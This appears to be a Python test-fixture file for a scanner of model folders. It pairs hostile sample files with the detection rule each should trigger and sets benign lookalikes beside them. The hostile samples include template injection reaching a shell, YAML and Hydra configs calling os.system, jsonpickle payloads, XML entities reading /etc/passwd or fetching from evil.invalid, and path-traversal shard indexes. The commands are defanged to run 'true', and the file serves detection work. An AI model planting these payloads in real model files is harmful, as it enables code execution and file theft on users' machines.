"""Hostile files that lie beside a model rather than in it: settings, templates, graphs as text, documents of XML."""

from __future__ import annotations

import json

#: A template that reaches a shell; the program that it would run is `true`.
REACHES = "{{ lipsum.__globals__['os'].popen('true').read() }}"

_TAG = b'a: !!python/object/apply:os.system ["true"]\n'
_TARGET = b"model:\n  _target_: os.system\n  command: 'true'\n"
_JSONPICKLE = json.dumps(
    {"py/object": "os.system", "py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["true"]}]}
).encode()


def _index(path: str) -> bytes:
    return json.dumps({"metadata": {}, "weight_map": {"a": path}}).encode()


def _modules(name: str, path: str = "") -> bytes:
    return json.dumps([{"idx": 0, "name": "0", "path": path, "type": name}]).encode()


#: Path in the model's folder, its bytes, and the rule that must say so.
LOOSE: dict[str, tuple[bytes, str]] = {
    "chat_template.jinja": (REACHES.encode(), "template:private"),
    "chat_template.json": (json.dumps({"chat_template": REACHES}).encode(), "template:private"),
    "additional_chat_templates/tool_use.jinja": (REACHES.encode(), "template:private"),
    "prompts/answer.prompt": (REACHES.encode(), "template:private"),
    "prompts/answer.md": (f"Answer this.\n\n{REACHES}\n".encode(), "template:private"),
    "kernels/mm.py.jinja": (("{{ def_kernel('a') }}" + REACHES).encode(), "template:private"),
    "prompts/page.j2": (("{% extends 'a' %}{% trans %}" + REACHES).encode(), "template:private"),
    "prompts/when.jinja": (
        b"{% include 'a' %}{% frob %}{% if x.__class__.__mro__ %}a{% endif %}",
        "template:private",
    ),
    "path/MLmodel": (
        b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    data: ../../../../tmp/evil\n",
        "mlmodel:path",
    ),
    "code/MLmodel": (b"flavors: {sklearn: {pickled_model: model.pkl, code: code}}\n", "mlmodel:code"),
    "escaped/MLmodel": (
        b'flavors: {python_function: {"loader_m\\x6fdule": evil, env: {conda: conda.yaml}}}\n',
        "mlmodel:loader",
    ),
    "merged/MLmodel": (
        b"a: &a {loader_module: os}\nflavors: {python_function: {<<: *a}}\n",
        "mlmodel:broken",
    ),
    "tag/MLmodel": (b'!!python/object/apply:os.system ["true"]\n', "yaml:tag"),
    "hparams.yaml": (_TAG, "yaml:tag"),
    "settings.yaml": (b'a: !!pyth%6fn/object/apply:os.system ["true"]\n', "yaml:tag"),
    "verbatim.yml": (b"a: !<tag:yaml.org,2002:pyth%6Fn/name:os.system>\n", "yaml:tag"),
    "config.yaml": (_TARGET, "config:target"),
    "model_config.yaml": (b"model: {_target_: os.system, command: 'true'}\n", "config:target"),
    "quoted.yaml": (b'model:\n  "_targ\\x65t_": subprocess.Popen\n', "config:target"),
    "anchored.yaml": (b"model:\n  &a _target_: builtins.exec\n", "config:target"),
    "config.json": (json.dumps({"model": {"_target_": "os.system"}}).encode(), "config:target"),
    "saved_model.pbtxt": (
        b'saved_model_schema_version: 1\nmeta_graphs { graph_def { node { name: "x" op: "ReadFile" } } }\n',
        "file:unsupported",
    ),
    "model.pbtxt": (b'node { name: "x" op: "PyFunc" }\n', "file:unsupported"),
    "python/config.pbtxt": (b'name: "x"\nbackend: "python"\n', "file:unsupported"),
    "library/config.pbtxt": (
        b'name: "x"\nmodel_operations { op_library_filename: [ "a.so" ] }\n',
        "file:unsupported",
    ),
    "hidden/config.pbtxt": (b'name: "x" # "\nnode { op: "PyFunc" } #"\n', "file:unsupported"),
    "model.json": (_JSONPICKLE, "json:jsonpickle"),
    "data.json": (_JSONPICKLE, "json:jsonpickle"),
    "commented.json": (b"// settings\n" + _JSONPICKLE, "json:jsonpickle"),
    "model.pmml": (
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>',
        "xml:entity",
    ),
    "plain.pmml": (b'<?xml version="1.0"?><PMML version="4.4"/>', "file:unsupported"),
    "parameter.xml": (
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % x PUBLIC "a" "http://evil.invalid/x"> %x;]><a/>',
        "xml:entity",
    ),
    "laughs.xml": (
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>',
        "xml:expansion",
    ),
    "charset.xml": (b'<?xml version="1.0" encoding="UTF-7"?><a/>', "xml:encoding"),
    "elsewhere.xml": (
        b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://evil.invalid/a.dtd"><a/>',
        "xml:doctype",
    ),
    "climbs/model.safetensors.index.json": (_index("../../../../etc/passwd"), "config:path"),
    "roots/pytorch_model.bin.index.json": (_index("/tmp/evil.bin"), "config:path"),
    "drives/model.safetensors.index.json": (_index("c:\\evil.bin"), "config:path"),
    "system/modules.json": (_modules("os.system"), "config:local-code"),
    "foreign/modules.json": (_modules("evil_pkg.Module"), "config:local-code"),
    "near/modules.json": (_modules("sentence_transformers.util.import_from_string"), "config:local-code"),
    "remote/modules.json": (_modules("who/repo--custom.Module"), "config:remote-code"),
    "up/modules.json": (_modules("sentence_transformers.models.Transformer", "../.."), "config:path"),
    "router_config.json": (json.dumps({"types": {"a": "evil.Cls"}}).encode(), "config:local-code"),
    "adapter_config.json": (
        json.dumps({"peft_type": "LORA", "megatron_core": "evil_module", "megatron_config": {}}).encode(),
        "config:local-code",
    ),
    "kernels/config.json": (
        json.dumps({"kernel_config": {"kernel_mapping": {"RMSNorm": {"cuda": "who/k:RMSNorm"}}}}).encode(),
        "config:remote-code",
    ),
}

#: The same kinds of files as people really write them.
HONEST: dict[str, bytes] = {
    "chat_template.jinja": b"{% for m in messages %}{{ m.role }}: {{ m.content }}\n{% endfor %}",
    "prompts/answer.jinja": b"Answer from {{ passages }}.\n{% if frobnicated %}Shortly.{% endif %}",
    "prompts/page.html.j2": b"{% extends 'a' %}{% block a %}{{ config.title }}{{ url_for('x') }}{% endblock %}",
    "kernels/mm.py.jinja": b"{{ def_kernel('a') }}\n{% if x == '__half' %}{{ stride('a', 0) }}{% endif %}",
    "docs/class.rst": b"{% for item in methods %}{% if item != '__init__' %}{{ item }}{% endif %}{% endfor %}",
    "deploy/values.yaml": b"image: {{ .Values.image }}\n",
    "MLmodel": (
        b"artifact_path: model\nflavors:\n  python_function:\n    env: {conda: conda.yaml}\n"
        b"    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    python_version: 3.11.7\n"
    ),
    "conda.yaml": b"channels: [conda-forge]\ndependencies:\n- python=3.11.7\n- pip: [mlflow, 'scikit-learn==1.5.0']\n",
    "triton/config.pbtxt": (
        b'name: "a" # the model\nplatform: "onnxruntime_onnx"\nmax_batch_size: 8\n'
        b'input [ { name: "x" data_type: TYPE_FP32 dims: [ 4 ] } ]\n'
        b'output [ { name: "y" data_type: TYPE_FP32 dims: [1] } ]\n'
        b"instance_group [ { kind: KIND_CPU } ]\ndynamic_batching { }\n"
    ),
    "label_map.pbtxt": b"item {\n  id: 1\n  name: 'cat'\n}\nitem {\n  id: 2\n  name: 'node { op'\n}\n",
    "tsconfig.json": b'{\n  // how it is built\n  "compilerOptions": {"strict": true,}, /* all */\n}\n',
    "package.json": b'{"name": "x", "scripts": {"build": "tsc"}}',
    "data/table.json": b'[{"a": 1, "b": "x"}, {"a": 2, "b": "http://x.invalid//y"}]',
    "pom.xml": b'<?xml version="1.0" encoding="UTF-8"?>\n<project><a>1</a></project>\n',
    "info.plist": (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN"'
        b' "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"/>\n'
    ),
    "logo.svg": (
        b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd" ['
        b'<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg xmlns="&ns_svg;"/>'
    ),
    "page.html": b"<!DOCTYPE html SYSTEM 'about:legacy-compat'><html><body>{{ page.title }}</body></html>",
    "README.md": b"# Model\n\nUse `{{ messages }}` in templates, and write `$x_{{i}}$`.\n",
    "LICENSE": b"Do as you like.\n",
    "modules.json": json.dumps(
        [
            {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
            {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
            {
                "idx": 2,
                "name": "2",
                "path": "2_Normalize",
                "type": "sentence_transformers.base.modules.normalize.Normalize",
            },
        ]
    ).encode(),
    "model.safetensors.index.json": _index("model-00001-of-00002.safetensors"),
    "adapter_config.json": json.dumps(
        {"peft_type": "LORA", "megatron_core": "megatron.core", "megatron_config": None}
    ).encode(),
    "mkdocs/nav.yml": b"# {_target_: x}\nnav: [a.md]\n",
    "table.csv": b"a,b\n1,2\n",
    "vocab.txt": b"[PAD]\n[UNK]\n",
    "tokenizer.json": json.dumps({"model": {"type": "BPE", "vocab": {"a": 0}, "merges": ["a b"]}}).encode(),
    "requirements.txt": b"numpy==2.0.0\n",
    "pyproject.toml": b"[project]\nname = 'x'\n",
}
